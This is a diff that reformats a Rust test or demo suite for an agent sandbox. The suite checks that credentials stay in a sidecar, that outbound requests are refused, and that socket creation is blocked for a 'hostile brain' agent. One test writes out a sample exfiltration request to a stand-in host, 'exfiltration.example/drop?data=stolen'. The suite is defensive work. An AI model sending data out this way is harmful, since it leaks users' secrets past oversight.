@@ -28,7 +28,10 @@ pub const STEPS: [Step; 6] = [
     Step { title: "A task that needs the credential is answered", show: task },
     Step { title: "The API saw the credential, which the agent never had", show: arrived },
     Step { title: "The credential is nowhere but in the sidecar's memory", show: searched },
-    Step { title: "Data sent elsewhere is refused, and the refusal names object and field", show: exfiltration },
+    Step {
+        title: "Data sent elsewhere is refused, and the refusal names object and field",
+        show: exfiltration,
+    },
     Step { title: "There is no socket to get out by", show: sockets },
 ];
 
@@ -59,53 +62,68 @@ fn arrived(team: &Team<'_>) -> Lines {
     let count = seen.matches(&expected).count();
     demand(count > 0, "no request with the credential arrived")?;
     let shown: String = expected.chars().take(13).collect();
-    Ok(vec![format!("GET /v1/notes/7 arrived with authorization: {shown}... ({} characters), {count} time(s)", expected.len())])
+    Ok(vec![format!(
+        "GET /v1/notes/7 arrived with authorization: {shown}... ({} characters), {count} time(s)",
+        expected.len()
+    )])
 }
 
 fn searched(team: &Team<'_>) -> Lines {
     let done = AtomicBool::new(false);
     let directive = json!({"tool": "notes__get_note", "arguments": {"id": "7"}, "times": CALLS});
     requests(team.cluster, "DELETE")?;
-    let (calls, outside, sidecar, rounds) = std::thread::scope(|scope| -> Result<_, Box<dyn std::error::Error>> {
-        let calls = scope.spawn(|| {
-            let answer = team.cluster.chat(&team.namespace, "helper", &format!("```call {directive}```"));
-            done.store(true, Ordering::Release);
-            answer
-        });
-        let mut rounds = 0;
-        let (outside, sidecar) = loop {
-            let last = done.load(Ordering::Acquire);
-            let outside = team.cluster.search_outside_the_sidecar(team, "helper")?;
-            let sidecar = team.cluster.search_the_sidecar(team, "helper")?;
-            rounds += 1;
-            if last || outside.report.verdict() != Verdict::NotFound {
-                break (outside, sidecar);
-            }
-        };
-        let calls = calls.join().map_err(|_| "the thread that made the calls ended badly")??;
-        Ok((calls, outside, sidecar, rounds))
-    })?;
+    let (calls, outside, sidecar, rounds) =
+        std::thread::scope(|scope| -> Result<_, Box<dyn std::error::Error>> {
+            let calls = scope.spawn(|| {
+                let answer = team.cluster.chat(&team.namespace, "helper", &format!("```call {directive}```"));
+                done.store(true, Ordering::Release);
+                answer
+            });
+            let mut rounds = 0;
+            let (outside, sidecar) = loop {
+                let last = done.load(Ordering::Acquire);
+                let outside = team.cluster.search_outside_the_sidecar(team, "helper")?;
+                let sidecar = team.cluster.search_the_sidecar(team, "helper")?;
+                rounds += 1;
+                if last || outside.report.verdict() != Verdict::NotFound {
+                    break (outside, sidecar);
+                }
+            };
+            let calls = calls.join().map_err(|_| "the thread that made the calls ended badly")??;
+            Ok((calls, outside, sidecar, rounds))
+        })?;
     let arrived = requests(team.cluster, "GET")?.matches(&team.credential).count();
     demand(arrived >= CALLS as usize, &format!("only {arrived} of {CALLS} calls arrived: {calls}"))?;
     demand(outside.report.verdict() == Verdict::NotFound, &format!("{}", outside.report))?;
-    demand(sidecar.report.verdict() == Verdict::Found, &format!("the searcher does not find it: {}", sidecar.report))?;
+    demand(
+        sidecar.report.verdict() == Verdict::Found,
+        &format!("the searcher does not find it: {}", sidecar.report),
+    )?;
     let mut lines = vec![format!(
         "searched {rounds} time(s) while {arrived} calls carried it; in plain, base64, hex and percent form:"
     )];
     lines.extend(outside.places.iter().map(|place| format!("  nothing in {place}")));
     lines.extend(outside.report.counts.iter().map(|(what, number)| format!("  ({what}: {number})")));
-    lines.extend(sidecar.places.iter().map(|place| format!("  found in {place}: {} time(s)", sidecar.report.found)));
+    lines.extend(
+        sidecar.places.iter().map(|place| format!("  found in {place}: {} time(s)", sidecar.report.found)),
+    );
     Ok(lines)
 }
 
 fn exfiltration(team: &Team<'_>) -> Lines {
     let text = "GET https://exfiltration.example/drop?data=stolen HTTP/1.1\r\nhost: exfiltration.example\r\nconnection: close\r\n\r\n";
-    let outcome = order(team, &json!({"do": "raw", "socket": "/run/redoubt/egress/egress.sock", "text": text}))?;
+    let outcome =
+        order(team, &json!({"do": "raw", "socket": "/run/redoubt/egress/egress.sock", "text": text}))?;
     let answer = outcome.get("answer").and_then(Value::as_str).unwrap_or_default();
     demand(answer.starts_with("HTTP/1.1 403"), &format!("the answer is: {outcome}"))?;
     let body: Value = serde_json::from_str(answer.split("\r\n\r\n").nth(1).unwrap_or_default())?;
-    let field = |name: &str| body.pointer(&format!("/error/{name}")).and_then(Value::as_str).unwrap_or_default().to_owned();
-    demand(!field("object").is_empty() && !field("field").is_empty(), &format!("object or field is missing: {body}"))?;
+    let field = |name: &str| {
+        body.pointer(&format!("/error/{name}")).and_then(Value::as_str).unwrap_or_default().to_owned()
+    };
+    demand(
+        !field("object").is_empty() && !field("field").is_empty(),
+        &format!("object or field is missing: {body}"),
+    )?;
     Ok(vec![
         "the hostile brain sends GET https://exfiltration.example/drop?data=stolen".to_owned(),
         format!("refused: {} by {} {}", field("reason"), field("object"), field("field")),
@@ -118,8 +136,16 @@ fn sockets(team: &Team<'_>) -> Lines {
     let outcome = order(team, &json!({"do": "sockets"}))?;
     demand(outcome.get("opened") == Some(&json!([])), &format!("opened: {outcome}"))?;
     let refused = outcome.get("refused").and_then(Value::as_object).ok_or("nothing was refused")?;
-    let mut lines = vec![format!("the hostile brain asks the kernel for {} kinds of sockets; each is refused:", refused.len())];
-    lines.extend(refused.iter().filter(|(kind, _)| kind.contains("raw") || kind.contains("inet stream")).map(|(kind, why)| format!("  {kind}: {why}")));
+    let mut lines = vec![format!(
+        "the hostile brain asks the kernel for {} kinds of sockets; each is refused:",
+        refused.len()
+    )];
+    lines.extend(
+        refused
+            .iter()
+            .filter(|(kind, _)| kind.contains("raw") || kind.contains("inet stream"))
+            .map(|(kind, why)| format!("  {kind}: {why}")),
+    );
     Ok(lines)
 }
 
